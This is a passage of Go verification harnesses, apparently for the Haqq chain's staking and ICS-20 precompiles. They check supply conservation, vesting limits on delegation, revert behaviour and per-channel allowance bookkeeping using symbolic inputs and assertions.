	shape := ""
	switch {
	case err == nil && named == c04Origin && caller != c04Origin && touched[c04Origin]:
		shape = " [shape C02-F1 delegator = signer, caller = contract, signer journal-dirty]"
	case err == nil && named == caller && c02.rewards.IsPositive():
		shape = " [shape C02-F5 delegation pays out pending rewards, only the delegated amount is mirrored]"
	}
	zz.ObserveInt("supply", bank.supply)
	zz.Assert(bank.supply.Equal(supply0), "EVM execution leaves the total supply unchanged"+shape)
	for _, a := range []common.Address{c04Origin, c04Contract, c04Other, c02Pool, c02Distr} {
		zz.ObserveInt("final."+c02Hex(a), bank.get(a))
		zz.Assert(bank.get(a).Equal(exp[a]), "every bank balance = before + received - sent - delegated"+shape)
	}
	zz.Reach("end")
}

var _ = big.NewInt
