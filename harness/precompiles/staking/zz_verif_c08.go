package staking

// Harness for property C08 through the staking precompile: "unvested coins can not be delegated ... through the staking
// precompile". The precompile's Delegate runs with Haqq's REAL staking message-server wrapper (the override used by the
// other harnesses of this package is switched off for this one); what reaches the SDK's own message server is recorded.

import (
	"math/big"
	"context"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/cosmos/cosmos-sdk/x/staking/keeper.NewMsgServerImpl -> c08SdkMsgServer

var c08Reached []*stakingtypes.MsgDelegate
var c08Created []*stakingtypes.MsgCreateValidator

type c08Sdk struct{ c04Srv }

func (s c08Sdk) Delegate(ctx context.Context, m *stakingtypes.MsgDelegate) (*stakingtypes.MsgDelegateResponse, error) {
	c08Reached = append(c08Reached, m)
	return &stakingtypes.MsgDelegateResponse{}, nil
}
func (s c08Sdk) CreateValidator(ctx context.Context, m *stakingtypes.MsgCreateValidator) (*stakingtypes.MsgCreateValidatorResponse, error) {
	c08Created = append(c08Created, m)
	return &stakingtypes.MsgCreateValidatorResponse{}, nil
}
func c08SdkMsgServer(k *sdkstakingkeeper.Keeper) stakingtypes.MsgServer { return c08Sdk{} }

type c08AK struct{ acc authtypes.AccountI }

func (a c08AK) IterateAccounts(ctx sdk.Context, process func(authtypes.AccountI) (stop bool)) {}
func (a c08AK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	if a.acc != nil && a.acc.GetAddress().Equals(addr) {
		return a.acc
	}
	return nil
}
func (a c08AK) GetModuleAddress(name string) sdk.AccAddress { return authtypes.NewModuleAddress(name) }
func (a c08AK) GetModuleAccount(ctx sdk.Context, moduleName string) authtypes.ModuleAccountI {
	return nil
}
func (a c08AK) SetModuleAccount(sdk.Context, authtypes.ModuleAccountI) {}

type c08BK struct{ bal sdkmath.Int }

func (b c08BK) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b c08BK) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.bal)
}
func (b c08BK) LockedCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins    { panic("not used") }
func (b c08BK) SpendableCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b c08BK) GetSupply(ctx sdk.Context, denom string) sdk.Coin               { panic("not used") }
func (b c08BK) SendCoinsFromModuleToModule(ctx sdk.Context, senderPool, recipientPool string, amt sdk.Coins) error {
	panic("not used")
}
func (b c08BK) UndelegateCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, recipientAddr sdk.AccAddress, amt sdk.Coins) error {
	panic("not used")
}
func (b c08BK) DelegateCoinsFromAccountToModule(ctx sdk.Context, senderAddr sdk.AccAddress, recipientModule string, amt sdk.Coins) error {
	panic("not used")
}
func (b c08BK) BurnCoins(ctx sdk.Context, name string, amt sdk.Coins) error { panic("not used") }

// VerifC08_PrecompileDelegate: a delegation requested through the staking precompile by a clawback vesting account reaches the
// staking module only if amount <= max(balance - unvested(now), 0).
func VerifC08_PrecompileDelegate() {
	env := zz.NewEnv([]string{"staking"}, nil)
	now := zz.AnyInt64In("now", 0, int64(1)<<41)
	start := zz.AnyInt64In("start", 0, int64(1)<<40)
	ctx := env.Ctx.WithBlockTime(time.Unix(now, 0))
	nv := zz.ParamInt("nv", 2)
	vp := make(sdkvesting.Periods, 0, nv)
	total := sdk.NewCoins()
	unvestedRef := sdkmath.ZeroInt()
	end := start
	for i := 0; i < nv; i++ {
		p := sdkvesting.Period{Length: zz.AnyInt64In("V"+string(rune('0'+i))+".len", 0, int64(1)<<36), Amount: zz.AnyCoins("V"+string(rune('0'+i))+".amt", 100, "aISLM")}
		vp = append(vp, p)
		total = total.Add(p.Amount...)
		end += p.Length
		unvestedRef = unvestedRef.Add(zz.IteInt(zz.And(end <= now, now > start), sdkmath.ZeroInt(), p.Amount.AmountOf("aISLM")))
	}
	lp := sdkvesting.Periods{{Length: zz.AnyInt64In("lockLen", 0, int64(1)<<36), Amount: total}}
	addr := sdk.AccAddress(c04Origin.Bytes())
	acc := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(addr), sdk.AccAddress(c04Other.Bytes()), total, time.Unix(start, 0), lp, vp, nil)
	bank := c08BK{bal: zz.AnyAmount("balance", 110)}
	k := stakingkeeper.NewKeeper(zz.Codec(), env.Key("staking"), c08AK{acc: acc}, bank, authtypes.NewModuleAddress("gov").String())
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: *k}
	db := statedb.New(ctx, &c04Ledger{bal: map[common.Address]*big.Int{}}, statedb.NewEmptyTxConfig(common.Hash{}))
	c08Reached = nil
	amount := zz.AnyAmount("amount", 110)
	_, err := p.Delegate(ctx, c04Origin, &vm.Contract{CallerAddress: c04Origin}, db, c04Method, []interface{}{c04Origin, c04Val, amount.BigInt()})
	delegatable := sdkmath.MaxInt(bank.bal.Sub(unvestedRef), sdkmath.ZeroInt())
	if err != nil {
		zz.Assert(len(c08Reached) == 0, "a refused delegation does not reach the staking module")
		zz.Reach("refused")
	} else {
		zz.Assert(len(c08Reached) == 1 && c08Reached[0].Amount.Amount.Equal(amount), "exactly the requested delegation reaches the staking module")
		zz.Assert(amount.LTE(delegatable), "unvested coins are not delegated through the precompile: amount <= max(balance - unvested, 0)")
		zz.Reach("delegated")
	}
	zz.Assert(zz.Implies(zz.And(amount.LTE(delegatable), amount.IsPositive()), err == nil), "a delegation of vested / free coins is not refused by the vesting check")
	zz.Reach("end")
}


//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitCreateValidatorEvent -> c08EmitCreate

//verif:override (github.com/cosmos/cosmos-sdk/x/staking/types.CommissionRates).String -> c08CommStr
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/types.Description).String -> c08DescStr

func c08CommStr(c stakingtypes.CommissionRates) string { return "" } // log argument only
func c08DescStr(d stakingtypes.Description) string     { return "" }

func c08EmitCreate(p Precompile, ctx sdk.Context, stateDB vm.StateDB, msg *stakingtypes.MsgCreateValidator, delegatorAddr common.Address) error {
	return nil
}

// VerifC08_PrecompileCreateValidator: a validator self-bond requested through the staking precompile by a clawback vesting
// account reaches the staking module only if value <= max(balance - unvested(now), 0) - exactly as the native message
// (C16: the precompile call succeeds or fails in the same cases as the native MsgCreateValidator).
func VerifC08_PrecompileCreateValidator() {
	env := zz.NewEnv([]string{"staking"}, nil)
	now := zz.AnyInt64In("now", 0, int64(1)<<41)
	start := zz.AnyInt64In("start", 0, int64(1)<<40)
	ctx := env.Ctx.WithBlockTime(time.Unix(now, 0))
	vestAmt := zz.AnyAmount("V0.amt", 100)
	vestLen := zz.AnyInt64In("V0.len", 0, int64(1)<<36)
	total := sdk.NewCoins(sdk.NewCoin("aISLM", vestAmt))
	unvestedRef := zz.IteInt(zz.And(start+vestLen <= now, now > start), sdkmath.ZeroInt(), vestAmt)
	vp := sdkvesting.Periods{{Length: vestLen, Amount: total}}
	lp := sdkvesting.Periods{{Length: zz.AnyInt64In("lockLen", 0, int64(1)<<36), Amount: total}}
	addr := sdk.AccAddress(c04Origin.Bytes())
	acc := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(addr), sdk.AccAddress(c04Other.Bytes()), total, time.Unix(start, 0), lp, vp, nil)
	bank := c08BK{bal: zz.AnyAmount("balance", 110)}
	k := stakingkeeper.NewKeeper(zz.Codec(), env.Key("staking"), c08AK{acc: acc}, bank, authtypes.NewModuleAddress("gov").String())
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: *k}
	db := statedb.New(ctx, &c04Ledger{bal: map[common.Address]*big.Int{}}, statedb.NewEmptyTxConfig(common.Hash{}))
	c08Created = nil
	value := zz.AnyAmount("value", 110)
	zz.Assume(value.IsPositive())
	one := big.NewInt(1)
	args := []interface{}{
		Description{Moniker: "m"},
		Commission{Rate: big.NewInt(0), MaxRate: big.NewInt(0), MaxChangeRate: big.NewInt(0)},
		one, c04Origin, sdk.ValAddress(c04Origin.Bytes()).String(), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", value.BigInt(),
	}
	_, err := p.CreateValidator(ctx, c04Origin, &vm.Contract{CallerAddress: c04Origin}, db, c04Method, args)
	bondable := sdkmath.MaxInt(bank.bal.Sub(unvestedRef), sdkmath.ZeroInt())
	if err != nil {
		zz.Assert(len(c08Created) == 0, "a refused self-bond does not reach the staking module")
		zz.Reach("refused")
	} else {
		zz.Assert(len(c08Created) == 1 && c08Created[0].Value.Amount.Equal(value), "exactly the requested self-bond reaches the staking module")
		zz.Assert(value.LTE(bondable), "unvested coins are not self-bonded through the precompile: value <= max(balance - unvested, 0)")
		zz.Reach("created")
	}
	zz.Assert(zz.Implies(value.LTE(bondable), err == nil), "a self-bond of vested / free coins is not refused by the vesting check")
	zz.Reach("end")
}
