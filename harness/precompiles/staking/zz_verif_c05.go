package staking

// Harness for property C05 around the staking precompile: a call frame (StateDB.Snapshot) that calls a state-changing
// precompile method and then reverts must leave no trace - neither in the EVM state nor in the Cosmos-side state the
// method wrote (authz grants, delegations and the coins they move). Real code: StateDB snapshot / revert / Commit and the
// precompile method bodies; the authz store and the staking module are the maps / ledger of the C04 / C02 harnesses.

import (
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

// VerifC05_PrecompileRevert: signer -> contract; the contract opens an inner frame that calls approve / revoke / delegate on
// the staking precompile and then reverts (or not); the outer frame completes and the transaction commits.
func VerifC05_PrecompileRevert() {
	env := zz.NewEnv([]string{"staking"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	c04.grants = map[string]*c04Grant{}
	c04.msgs = nil
	c04.srvFail = false
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &c02Bank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	c02.bank = bank
	defer func() { c02.bank = nil }()
	for _, a := range c04Addrs {
		b := zz.AnyAmount("bal."+c02Hex(a), 100)
		bank.bal[a] = b
		bank.supply = bank.supply.Add(b)
	}
	bank.bal[c02Pool] = sdk.ZeroInt()
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(c04Origin)
	db.GetCodeHash(c04Contract)

	// pre-state of the Cosmos side: an optional existing grant signer -> contract
	gKey := c04Key(c04Contract.Bytes(), c04Origin.Bytes(), DelegateMsg)
	hadGrant := zz.AnyBool("grantExistsBefore")
	limit0 := zz.AnyAmount("limitBefore", 100)
	if hadGrant {
		zz.Assume(limit0.IsPositive())
		c := sdk.NewCoin("aISLM", limit0)
		c04.grants[gKey] = &c04Grant{auth: &stakingtypes.StakeAuthorization{AuthorizationType: DelegateAuthz, MaxTokens: &c,
			Validators: &stakingtypes.StakeAuthorization_AllowList{AllowList: &stakingtypes.StakeAuthorization_Validators{Address: []string{c04Val}}}}}
	}
	pool0, origin0 := bank.get(c02Pool), bank.get(c04Origin)

	// inner frame
	snap := db.Snapshot()
	if err := db.Commit(); err != nil { // Precompile.Run flushes first
		panic(err)
	}
	amt := zz.AnyAmount("amount", 100)
	zz.Assume(amt.IsPositive())
	method := zz.Choose("method", 3)
	var err error
	switch method {
	case 0:
		_, err = p.Approve(ctx, c04Origin, db, c04Method, []interface{}{c04Contract, amt.BigInt(), []string{DelegateMsg}})
	case 1:
		_, err = p.Revoke(ctx, c04Origin, db, c04Method, []interface{}{c04Contract, []string{DelegateMsg}})
	default:
		_, err = p.Delegate(ctx, c04Origin, &vm.Contract{CallerAddress: c04Contract}, db, c04Method, []interface{}{c04Origin, c04Val, amt.BigInt()})
	}
	reverts := zz.AnyBool("innerFrameReverts")
	if err != nil || reverts {
		db.RevertToSnapshot(snap)
	}
	if err := db.Commit(); err != nil {
		panic(err)
	}
	if err != nil {
		zz.Reach("precompile-refused")
		return
	}
	if !reverts {
		zz.Reach("kept")
		zz.Reach("end")
		return
	}
	zz.Reach("reverted")
	names := []string{"approve", "revoke", "delegate"}
	shape := " [shape C05-F1 Cosmos-side write of " + names[method] + " is outside the EVM journal]"
	e, _, v := c04Limit(c04Contract, c04Origin, DelegateMsg)
	zz.Assert(e == hadGrant, "a grant created / removed inside a reverted frame is restored"+shape)
	if e && hadGrant {
		zz.Assert(v.Equal(limit0), "a grant limit changed inside a reverted frame is restored"+shape)
	}
	zz.Assert(bank.get(c02Pool).Equal(pool0), "a delegation made inside a reverted frame is undone (bonded pool)"+shape)
	zz.Assert(bank.get(c04Origin).Equal(origin0), "a delegation made inside a reverted frame is undone (delegator balance)"+shape)
	zz.Reach("end")
}

var _ = big.NewInt
