package ics20

// Harness for property C04 (ICS-20 grants): every sequence of increaseAllowance / decreaseAllowance on a named channel and
// spends by the calling contract keeps each channel's remaining limit equal to a running-allowance model - a change
// addressed to one (port, channel) never touches another, and a limited grant is never overspent.

import (
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authzkeeper "github.com/cosmos/cosmos-sdk/x/authz/keeper"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	clienttypes "github.com/cosmos/ibc-go/v7/modules/core/02-client/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/haqq-network/haqq/precompiles/authorization.EmitIBCTransferAuthorizationEvent -> icsEmitAuthz

func icsEmitAuthz(event abi.Event, ctx sdk.Context, stateDB vm.StateDB, precompileAddr, granteeAddr, granterAddr common.Address, allocations []cmn.ICS20Allocation) error {
	return nil
}

// icsLimits reads the stored grant contract <- signer: per channel (allocation exists, coin listed, limit).
func icsLimits() (bool, map[string][3]interface{}) {
	out := map[string][3]interface{}{}
	g, ok := ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())]
	if !ok {
		return false, out
	}
	ta := g.auth.(*transfertypes.TransferAuthorization)
	for _, a := range ta.Allocations {
		found, c := a.SpendLimit.Find("aISLM")
		out[a.SourceChannel] = [3]interface{}{true, found, c.Amount}
	}
	return true, out
}

func VerifC04_Ics20Allowance() {
	env := zz.NewEnv([]string{"ibc"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	ics.grants, ics.msgs, ics.fail = map[string]*icsGrant{}, nil, false
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &icsBank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	ics.bank = bank
	bank.bal[icsOrigin] = sdkmath.NewIntFromBigInt(new(big.Int).Lsh(big.NewInt(1), 200))
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	channels := []string{"channel-0", "channel-1"}

	// the signer's grant to the contract: one allocation per channel with its own limit (reference model: limit per channel;
	// "alloc" = the allocation is still stored, "coin" = its spend limit still lists the denomination)
	limit := map[string]sdkmath.Int{}
	alloc := map[string]bool{}
	coin := map[string]bool{}
	var allocs []transfertypes.Allocation
	for i, ch := range channels {
		l := zz.AnyAmount("limit"+string(rune('0'+i)), 100)
		zz.Assume(l.IsPositive())
		limit[ch], alloc[ch], coin[ch] = l, true, true
		allocs = append(allocs, transfertypes.Allocation{SourcePort: "transfer", SourceChannel: ch, SpendLimit: sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: l}}})
	}
	exp := ctx.BlockTime().Add(time.Hour)
	ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())] = &icsGrant{auth: &transfertypes.TransferAuthorization{Allocations: allocs}, exp: &exp}
	grantLive := true

	steps := zz.ParamInt("steps", 2)
	for s := 0; s < steps; s++ {
		t := "s" + string(rune('0'+s))
		ch := channels[zz.Choose(t+".channel", 2)]
		amt := zz.AnyAmount(t+".amount", 100)
		zz.Assume(amt.IsPositive())
		switch zz.Choose(t+".op", 3) {
		case 0:
			err := IncreaseAllowance(ctx, authzkeeper.Keeper{}, p.Address(), icsContract, icsOrigin, "transfer", ch, "aISLM", amt.BigInt(), abi.Event{}, db)
			ok := grantLive && alloc[ch] && coin[ch]
			zz.Assert((err == nil) == ok, "increaseAllowance needs a live allocation for exactly this channel and denomination")
			if ok {
				limit[ch] = limit[ch].Add(amt)
			}
		case 1:
			err := DecreaseAllowance(ctx, authzkeeper.Keeper{}, p.Address(), icsContract, icsOrigin, "transfer", ch, "aISLM", amt.BigInt(), abi.Event{}, db)
			ok := grantLive && alloc[ch] && coin[ch] && amt.LTE(limit[ch])
			zz.Assert((err == nil) == ok, "decreaseAllowance needs a live allocation for exactly this channel and an amount within its limit")
			if ok {
				limit[ch] = limit[ch].Sub(amt)
				if limit[ch].IsZero() {
					coin[ch] = false
				}
			}
		default:
			n0 := len(ics.msgs)
			args := []interface{}{"transfer", ch, "aISLM", amt.BigInt(), icsOrigin, icsReceiver, clienttypes.NewHeight(1, 100), uint64(0), "memo"}
			_, err := p.Transfer(ctx, icsOrigin, &vm.Contract{CallerAddress: icsContract}, db, icsMethod, args)
			ok := grantLive && alloc[ch] && coin[ch] && amt.LTE(limit[ch])
			zz.Assert((err == nil) == ok, "a spend by the calling contract succeeds exactly within the live limit of the channel it names")
			zz.Assert((len(ics.msgs) == n0+1) == ok, "the transfer module is reached exactly when the spend is allowed")
			if ok {
				limit[ch] = limit[ch].Sub(amt)
				if limit[ch].IsZero() {
					alloc[ch], coin[ch] = false, false // a fully used allocation is removed
					if !alloc[channels[0]] && !alloc[channels[1]] {
						grantLive = false
					}
				}
			}
		}
		if g, ok := ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())]; ok {
			zz.Assert(g.exp != nil && g.exp.Equal(exp), "a live grant keeps its expiry through every allowance change and spend")
		}
		// the stored grant equals the model after every step, for both channels
		live, st := icsLimits()
		zz.Assert(live == grantLive, "grant existence matches the running-allowance model")
		for _, c := range channels {
			e, hasAlloc := st[c]
			zz.Assert(hasAlloc == (grantLive && alloc[c]), "allocation of each channel exists exactly as in the model")
			if hasAlloc && alloc[c] {
				zz.Assert(e[1].(bool) == coin[c], "the denomination is listed exactly while its limit is positive")
				if coin[c] {
					zz.ObserveInt(t+"."+c, e[2].(sdkmath.Int))
					zz.Assert(e[2].(sdkmath.Int).Equal(limit[c]), "remaining limit of every channel = granted + increased - decreased - spent on that channel, exactly")
				}
			}
		}
	}
	zz.Reach("end")
}


// VerifC04_Ics20Approve: the grant stored by approve() is exactly what the signer approved - port, channel, spend limit and the
// receiver allow list of every allocation - and a spend by the grantee to a receiver outside the allow list is refused.
func VerifC04_Ics20Approve() {
	env := zz.NewEnv([]string{"ibc"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	ics.grants, ics.msgs, ics.fail = map[string]*icsGrant{}, nil, false
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &icsBank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	ics.bank = bank
	bank.bal[icsOrigin] = sdkmath.NewIntFromBigInt(new(big.Int).Lsh(big.NewInt(1), 200))
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	limit := zz.AnyAmount("limit", 100)
	zz.Assume(limit.IsPositive())
	channel := []string{"channel-0", "channel-1", "channel-9"}[zz.Choose("channel", 3)]
	var allow []string
	restricted := zz.AnyBool("restrictedToReceiver")
	if restricted {
		allow = []string{icsReceiver}
	}
	alloc := cmn.ICS20Allocation{SourcePort: "transfer", SourceChannel: channel, SpendLimit: []cmn.Coin{{Denom: "aISLM", Amount: limit.BigInt()}}, AllowList: allow}
	m := &abi.Method{Name: "approve", Inputs: make(abi.Arguments, 2)}
	_, err := p.Approve(ctx, icsOrigin, db, m, []interface{}{icsContract, []cmn.ICS20Allocation{alloc}})
	if err != nil {
		zz.Assert(channel == "channel-9", "only an allocation for a channel that does not exist is refused")
		zz.Reach("refused")
		zz.Reach("end")
		return
	}
	zz.Reach("approved")
	g, ok := ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())]
	zz.Assert(ok, "the grant is stored for (grantee = the approved contract, granter = the signer)")
	ta, isT := g.auth.(*transfertypes.TransferAuthorization)
	zz.Assert(isT && len(ta.Allocations) == 1, "one allocation is stored")
	a := ta.Allocations[0]
	zz.Assert(a.SourcePort == "transfer" && a.SourceChannel == channel && a.SpendLimit.AmountOf("aISLM").Equal(limit), "port, channel and spend limit are those approved")
	zz.Assert(len(a.AllowList) == len(allow) && (len(allow) == 0 || a.AllowList[0] == icsReceiver), "the receiver allow list is the one approved")
	zz.Assert(g.exp != nil && g.exp.Equal(ctx.BlockTime().Add(time.Hour)), "the grant expires after the approval period")
	// a spend by the grantee to somebody else
	amt := zz.AnyAmount("amount", 100)
	zz.Assume(amt.IsPositive() && amt.LTE(limit))
	args := []interface{}{"transfer", channel, "aISLM", amt.BigInt(), icsOrigin, "cosmos1someoneelse", clienttypes.NewHeight(1, 100), uint64(0), "memo"}
	_, terr := p.Transfer(ctx, icsOrigin, &vm.Contract{CallerAddress: icsContract}, db, icsMethod, args)
	zz.Assert((terr != nil) == restricted, "a transfer to a receiver outside the approved allow list is refused (and allowed when no list was given)")
	zz.Reach("end")
}
