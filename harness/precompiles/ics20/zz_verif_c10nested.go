package ics20

// Harness for property C10 through the real ICS-20 Precompile.Run: the wrapped transfer keeper converts the sender's ERC20
// tokens into coins when the sender does not hold the coin - an EVM execution of its own that debits the token contract's
// storage straight in the store of the context it is given. The calling transaction (a contract that reads / burns its own
// tokens before and after the precompile call) works through the real StateDB; the token contract's storage lives in a real
// KV store of the context, so the cached context of Run, its write-back and its discard behave as in the application.
// RunSetup (ABI decoding, gas meter set-up) is replaced by handing the decoded values over.

import (
	"time"

	sdkmath "cosmossdk.io/math"
	storetypes "github.com/cosmos/cosmos-sdk/store/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	clienttypes "github.com/cosmos/ibc-go/v7/modules/core/02-client/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/haqq-network/haqq/precompiles/common.Precompile).RunSetup -> icsRunSetup

var icsRun struct {
	ctx    sdk.Context
	db     *statedb.StateDB
	method *abi.Method
	args   []interface{}
}

func icsRunSetup(p cmn.Precompile, evm *vm.EVM, contract *vm.Contract, readOnly bool, isTransaction func(name string) bool) (sdk.Context, *statedb.StateDB, *abi.Method, sdk.Gas, []interface{}, error) {
	return icsRun.ctx, icsRun.db, icsRun.method, 0, icsRun.args, nil
}

var (
	icsToken     = common.HexToAddress("0x6000000000000000000000000000000000000006")
	icsSlotBal   = common.HexToHash("0x01") // balanceOf(contract)
	icsSlotTotal = common.HexToHash("0x02") // totalSupply
	icsEscrowKey = []byte("coins escrowed in the erc20 module account")
)

func icsWord(n int) common.Hash {
	var h common.Hash
	h[29], h[30], h[31] = byte(n>>16), byte(n>>8), byte(n)
	return h
}
func icsNum(h common.Hash) int { return int(h[29])<<16 | int(h[30])<<8 | int(h[31]) }

// icsTokenKeeper: accounts as in icsBank, contract storage in a KV store of the context
type icsTokenKeeper struct {
	*icsBank
	key storetypes.StoreKey
}

func (k icsTokenKeeper) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash {
	return common.BytesToHash(ctx.KVStore(k.key).Get(append(addr.Bytes(), key.Bytes()...)))
}
func (k icsTokenKeeper) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {
	ctx.KVStore(k.key).Set(append(addr.Bytes(), key.Bytes()...), value)
}

// VerifC10_Ics20NestedConversion: one Ethereum transaction of a contract holding 1000 tokens of a coin-origin pair (1000
// coins escrowed): [nothing | read its balance | burn 1] ; ICS20.transfer(coin, N) where the contract holds no coins, so the
// transfer keeper first converts N tokens (or N = 0: the contract holds the coins, nothing is converted) ; [nothing | read |
// burn 1]. After the final Commit the token balance and the total supply are 1000 - burnt - converted, and the total supply
// does not exceed the escrowed coins. A failed precompile call leaves no trace of the conversion.
func VerifC10_Ics20NestedConversion() {
	env := zz.NewEnv([]string{"evmstorage"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0)).WithGasMeter(sdk.NewInfiniteGasMeter())
	ics.grants, ics.msgs, ics.alias = map[string]*icsGrant{}, nil, nil
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &icsBank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	for _, a := range []common.Address{icsOrigin, icsContract, icsToken, icsEscrow} {
		bank.bal[a] = sdk.ZeroInt()
	}
	ics.bank = bank
	keeper := icsTokenKeeper{icsBank: bank, key: env.Key("evmstorage")}
	const initial = 1000
	keeper.SetState(ctx, icsToken, icsSlotBal, icsWord(initial).Bytes())
	keeper.SetState(ctx, icsToken, icsSlotTotal, icsWord(initial).Bytes())
	ctx.KVStore(keeper.key).Set(icsEscrowKey, icsWord(initial).Bytes())

	converted := []int{0, 400}[zz.Choose("converted", 2)]
	ics.fail = zz.AnyBool("moduleRefuses")
	ics.nested = func(c sdk.Context, m *transfertypes.MsgTransfer) {
		if converted == 0 {
			// the contract holds the coins itself
			bank.bal[icsContract] = m.Token.Amount
			return
		}
		// ConvertERC20 (coin-origin pair): burn the sender's tokens, release the same number of escrowed coins to it
		keeper.SetState(c, icsToken, icsSlotBal, icsWord(icsNum(keeper.GetState(c, icsToken, icsSlotBal))-converted).Bytes())
		keeper.SetState(c, icsToken, icsSlotTotal, icsWord(icsNum(keeper.GetState(c, icsToken, icsSlotTotal))-converted).Bytes())
		st := c.KVStore(keeper.key)
		st.Set(icsEscrowKey, icsWord(icsNum(common.BytesToHash(st.Get(icsEscrowKey)))-converted).Bytes())
		bank.bal[icsContract] = sdkmath.NewInt(int64(converted))
	}
	defer func() { ics.nested = nil }()
	// unlimited transfer grant contract <- signer
	ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())] = &icsGrant{auth: &transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{
		{SourcePort: "transfer", SourceChannel: "channel-0", SpendLimit: sdk.NewCoins(sdk.NewCoin("acoin", transfertypes.UnboundedSpendLimit()))}}}}

	db := statedb.New(ctx, keeper, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(icsOrigin)
	db.GetCodeHash(icsContract)
	burnt := 0
	truth := initial // what the contract's token balance really is at this point
	step := func(tag string) {
		switch zz.Choose(tag, 3) {
		case 1: // balanceOf(this)
